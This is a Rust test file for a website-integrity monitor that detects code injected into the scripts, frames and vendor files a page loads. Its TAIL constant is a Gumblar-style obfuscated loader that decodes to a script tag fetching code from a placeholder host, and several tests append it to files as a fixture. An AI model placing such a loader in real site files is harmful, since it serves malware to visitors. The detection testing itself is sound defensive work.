//! What a page loads: compared like the page itself, though the page stays the same to the last byte.

use crate::support::{Answer, Installation, Service, Web, pages, quick};
use hinomi::model::{Persona, Resource, UnseenReason, Verdict};
use hinomi::monitor::Thoroughness;
use serde_json::Value;
use std::time::Duration;

const MENU: &str = "(function () {\n  var menu = document.getElementById('menu');\n  if (!menu) { return; }\n  \
    menu.addEventListener('click', function () { menu.classList.toggle('open'); });\n})();\n";

/// What Gumblar and its kin write behind it.
const TAIL: &str = "(function(){var k='~3c~73~63~72~69~70~74~20~73~72~63~3d~2f~2f~63~64~6e~2d~73~74~61~74~2e~65~78~61\
    ~6d~70~6c~65~2f~76~69~64~2f~3f~69~64~3d~31~3e~3c~2f~73~63~72~69~70~74~3e';\
    document.write(unescape(k.replace(/~/g,'%')));})();\n";

/// A city whose page loads a script, a stylesheet, a picture and a frame of its own.
fn city() -> Installation {
    let city = Installation::watching(&[("/top", "")]);
    let more = "<img src=\"/images/logo.png\" alt=\"例示市\"><iframe src=\"/news-frame.html\"></iframe>";
    city.web.put("/top", Answer::page(pages::city(&pages::NEWS, more)));
    city.web.put("/js/menu.js", Answer::script(MENU));
    city.web.put("/css/site.css", Answer::page("body { color: #333; }").header("Content-Type", "text/css"));
    city.web.put("/images/logo.png", Answer::page("picture one").header("Content-Type", "image/png"));
    city.web.put("/news-frame.html", Answer::page(frame("今週の行事")));
    city.check("review");
    city.run(&["baseline", "approve", "--first", "--by", "Hanako <web@city.example>"]).ended(0);
    city.check("unchanged");
    city
}

fn frame(news: &str) -> String {
    format!(
        "<!DOCTYPE html><html lang=ja><meta charset=utf-8><title>お知らせ</title><ul><li>{news}</li>\
         <li>市民課の窓口の受付時間についてのお知らせ</li><li>水道料金の改定についてのお知らせ</li></ul></html>"
    )
}

fn rules(seen: &Value) -> Vec<&str> {
    let findings = seen["findings"].as_array().expect("findings");
    findings.iter().filter_map(|finding| finding["rule"].as_str()).collect()
}

#[test]
fn code_behind_a_script_file_alarms_while_the_page_stays_the_same() {
    let city = city();
    city.web.put("/js/menu.js", Answer::script([MENU, TAIL].concat()));
    let seen = city.check("alarm");
    assert!(rules(&seen).contains(&"script-appended"), "{seen:#}");
    let place = city.web.url("/js/menu.js");
    assert!(
        seen["findings"].as_array().is_some_and(|all| all.iter().any(|f| f["location"]["path"] == *place)),
        "{seen:#}"
    );
    let mails = city.mails_to("web@city.example");
    let [mail] = mails.as_slice() else { panic!("{mails:#?}") };
    assert!(mail.text.contains("/js/menu[.]js") || mail.text.contains("/js/menu.js"), "{}", mail.text);
    assert!(mail.text.contains("cdn-stat[.]example"), "the decoded line: {}", mail.text);
    assert!(!mail.text.contains("http://127.0.0.1"), "defanged: {}", mail.text);

    // The script is kept as evidence, and putting it back is a clean state.
    city.web.put("/js/menu.js", Answer::script(MENU));
    city.check("unchanged");
}

#[test]
fn a_new_release_is_for_a_person_and_quiet_once_approved() {
    let city = city();
    city.web.put("/js/menu.js", Answer::script(MENU.replace("'open'", "'is-open'").replace("click", "pointerup")));
    let seen = city.check("review");
    assert!(rules(&seen).contains(&"linked-resource-changed"), "{seen:#}");
    let shown = city.run(&["baseline", "diff", "top"]).ended(1).out;
    assert!(shown.contains("/js/menu.js") && shown.contains("pointerup"), "{shown}");
    let digest = seen["digest"].as_str().expect("a digest").to_owned();
    let by = "Hanako <web@city.example>";
    city.run(&["baseline", "approve", "top", "--digest", &digest, "--by", by, "--reason", "release"]).ended(0);
    city.check("unchanged");
    city.run(&["baseline", "verify"]).ended(0);
    city.web.put("/js/menu.js", Answer::script(MENU));
    city.check("review");
    assert!(city.mails().is_empty());
}

#[test]
fn the_pages_own_styles_and_what_a_frame_tells_are_followed() {
    let city = city();
    city.web.put("/css/site.css", Answer::page("body { color: #222; margin: 0; }").header("Content-Type", "text/css"));
    city.check("routine");
    city.check("unchanged");
    city.web.put("/news-frame.html", Answer::page(frame("来週の行事")));
    city.check("routine");
    city.check("unchanged");
}

#[test]
fn a_frame_that_is_infected_alarms() {
    let city = city();
    let infected = frame("今週の行事").replace("</html>", &format!("{}</html>", pages::FRAME));
    city.web.put("/news-frame.html", Answer::page(infected));
    assert!(rules(&city.check("alarm")).contains(&"hidden-frame"));
}

#[test]
fn a_replaced_logo_and_a_script_that_is_gone_are_for_a_person() {
    let city = city();
    city.web.put("/images/logo.png", Answer::page("picture two").header("Content-Type", "image/png"));
    assert_eq!(rules(&city.check("review")), ["linked-resource-changed"]);
    city.web.put("/images/logo.png", Answer::page("picture one").header("Content-Type", "image/png"));
    city.check("unchanged");
    city.web.put("/js/menu.js", Answer::page("").status(404));
    city.check("review");
}

#[test]
fn a_short_failure_of_a_file_changes_nothing() {
    let city = city();
    city.web.put("/js/menu.js", Answer::page("").status(503));
    city.check("unchanged");
    city.web.put("/js/menu.js", Answer::wild(|_| Ok(())));
    city.check("unchanged");
}

/// A service that watches two pages of a city, both loading a script of their own and one of another host.
async fn service(folder: &std::path::Path, interval: Duration) -> (Service, Web, Web) {
    let (web, cdn) = (Web::start(), Web::start_on("127.0.0.2"));
    let script = format!("<script src=\"{}\"></script>", cdn.url("/lib.js"));
    for path in ["/a", "/b"] {
        web.put(path, Answer::page(pages::city(&pages::NEWS, &script)).header("ETag", "\"page\""));
    }
    web.put("/js/menu.js", Answer::script(MENU).header("ETag", "\"menu\""));
    cdn.put("/lib.js", Answer::script("var lib = 1;").header("ETag", "\"lib\""));
    let targets: Vec<_> = ["a", "b"].map(|id| (id.to_owned(), web.url(&format!("/{id}")))).into();
    let service = Service::open(folder, &targets, interval, quick()).await;
    for id in ["a", "b"] {
        assert_eq!(service.check(id).await.verdict, Verdict::Review);
        service.approve(id).await;
        assert_eq!(service.check(id).await.verdict, Verdict::Unchanged);
    }
    (service, web, cdn)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn another_sites_script_is_looked_at_once_for_all_pages_and_ones_own_in_every_check() {
    let folder = tempfile::tempdir().expect("a folder");
    let (service, web, cdn) = service(folder.path(), Duration::from_secs(300)).await;
    assert_eq!(cdn.seen("/lib.js").len(), 1, "one look for two pages");
    let referer = web.url("/");
    assert_eq!(cdn.seen("/lib.js")[0].header("referer"), Some(referer.as_str()), "another host learns no more");
    let before = web.seen("/js/menu.js").len();
    service.check("a").await;
    assert_eq!(web.seen("/js/menu.js").len(), before + 1);
    assert!(web.seen("/js/menu.js").iter().any(|seen| seen.header("if-none-match").is_some()), "conditionally");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_that_says_not_modified_does_not_hide_a_changed_script() {
    let folder = tempfile::tempdir().expect("a folder");
    let (service, web, _cdn) = service(folder.path(), Duration::from_millis(2)).await;
    web.put("/js/menu.js", Answer::script([MENU, TAIL].concat()).header("ETag", "\"tail\""));
    let report = service.check_as("a", Persona::Desktop, Thoroughness::Usual).await;
    assert_eq!(report.verdict, Verdict::Alarm, "{report:#?}");
    let rules: Vec<&str> = report.findings.iter().map(|finding| finding.rule.as_str()).collect();
    assert!(rules.contains(&"script-appended"), "{rules:?}");
    let kept = service.incidents().await;
    let captured = kept[0].trail.captures[0].resources.iter().filter_map(Resource::bytes);
    for digest in captured {
        let body = hinomi::store::Store::body(&*service.store, digest).await.expect("the store");
        assert!(body.is_some(), "evidence is kept with what the page loaded");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_trap_in_a_script_s_place_harms_nothing_and_is_counted_as_unseen() {
    let folder = tempfile::tempdir().expect("a folder");
    let web = Web::start();
    web.put("/a", Answer::page(pages::ordinary()));
    web.put("/js/menu.js", Answer::script(vec![b' '; 5 << 20]));
    let targets = [("a".to_owned(), web.url("/a"))];
    let service = Service::open(folder.path(), &targets, Duration::from_secs(300), quick()).await;
    assert_eq!(service.check("a").await.verdict, Verdict::Review);
    let waits = service.proposal("a").await.expect("a proposal");
    let script = waits.snapshot.resources.iter().find(|one| one.url.path() == "/js/menu.js").expect("the script");
    assert_eq!(script.content, hinomi::model::Content::Unseen { reason: UnseenReason::TooLarge });
}

#[test]
fn more_than_can_be_examined_is_told_and_cannot_be_approved_unseen() {
    let city = Installation::watching(&[("/top", "")]);
    let scripts: String = (0..6).map(|n| format!("<script src=\"/js/{n}.js\"></script>")).collect();
    city.web.put("/top", Answer::page(pages::city(&pages::NEWS, &scripts)));
    for n in 0..6 {
        let text = format!("var part{n} = \"{}\";\n", "x".repeat(1_900_000));
        city.web.put(&format!("/js/{n}.js"), Answer::script(text));
    }
    let seen = city.check("review");
    let told = seen["findings"].as_array().expect("findings");
    let unexamined = told.iter().filter(|f| f["summary"].as_str().is_some_and(|s| s.contains("could not be examined")));
    assert_eq!(unexamined.count(), 2, "{seen:#}");
    city.run(&["baseline", "approve", "--first", "--by", "Hanako <web@city.example>"]).ended(1);
}

#[test]
fn programs_that_operators_name_may_change_and_still_go_through_the_rules() {
    let city = Installation::watching(&[("/top", "")]);
    let vendor = Web::start_on("127.0.0.2");
    city.web.put(
        "/top",
        Answer::page(pages::city(&pages::NEWS, &format!("<script src=\"{}\"></script>", vendor.url("/w.js")))),
    );
    vendor.put("/w.js", Answer::script("var widget = 1;"));
    city.set("[check]\nservices = \"services.tsv\"");
    city.write("services.tsv", "vendor\tVendor\tchat\n127.0.0.2\tVendor\tfun\n");
    let refused = city.run(&["check"]).ended(2);
    assert!(refused.err.contains("services.tsv:1:") && refused.err.contains("services.tsv:2:"), "{refused:?}");
    city.write("services.tsv", "# ours\n127.0.0.2\tVendor\tchat\tchanges\n");
    let digest = city.check("review")["digest"].as_str().expect("a digest").to_owned();
    city.run(&["baseline", "approve", "top", "--digest", &digest, "--by", "Hanako <web@city.example>"]).ended(0);
    city.check("unchanged");
    vendor.put("/w.js", Answer::script("var widget = 2;"));
    city.check("unchanged");
    vendor.put("/w.js", Answer::script(["var widget = 2;", TAIL].concat()));
    assert!(rules(&city.check("alarm")).contains(&"encoded-script"));
}

#[test]
fn a_script_that_is_another_one_with_every_fetch_is_examined_as_it_came() {
    let city = city();
    for n in 0..3 {
        city.web.put_once("/js/menu.js", Answer::script(format!("{MENU}{TAIL}// {n}")));
    }
    city.web.put("/js/menu.js", Answer::script(format!("{MENU}{TAIL}// later")));
    assert!(rules(&city.check("alarm")).contains(&"script-appended"));
}

#[test]
fn a_file_that_is_fetched_from_elsewhere_says_from_where() {
    let city = city();
    let elsewhere = Web::start_on("127.0.0.2");
    elsewhere.put("/menu.js", Answer::script(MENU.replace("'open'", "'is-open'")));
    city.web.put("/js/menu.js", Answer::page("").status(302).header("Location", &elsewhere.url("/menu.js")));
    let seen = city.check("alarm");
    let findings = seen["findings"].as_array().expect("findings");
    let led = findings.iter().find(|finding| finding["rule"] == "new-external-host").expect("the host it came from");
    assert!(led["evidence"].as_str().is_some_and(|text| text.ends_with(&elsewhere.url("/menu.js"))), "{led:#}");
}

#[test]
fn a_script_is_read_in_the_charset_that_its_host_names() {
    let city = city();
    let wide: Vec<u8> = [MENU, TAIL].concat().encode_utf16().flat_map(u16::to_be_bytes).collect();
    let answer = Answer::page(wide).header("Content-Type", "text/javascript; charset=utf-16be");
    city.web.put("/js/menu.js", answer);
    let seen = city.check("alarm");
    let findings = seen["findings"].as_array().expect("findings");
    assert!(findings.iter().any(|one| one["decoded"].as_str().is_some_and(|text| text.contains("cdn-stat.example"))));
}
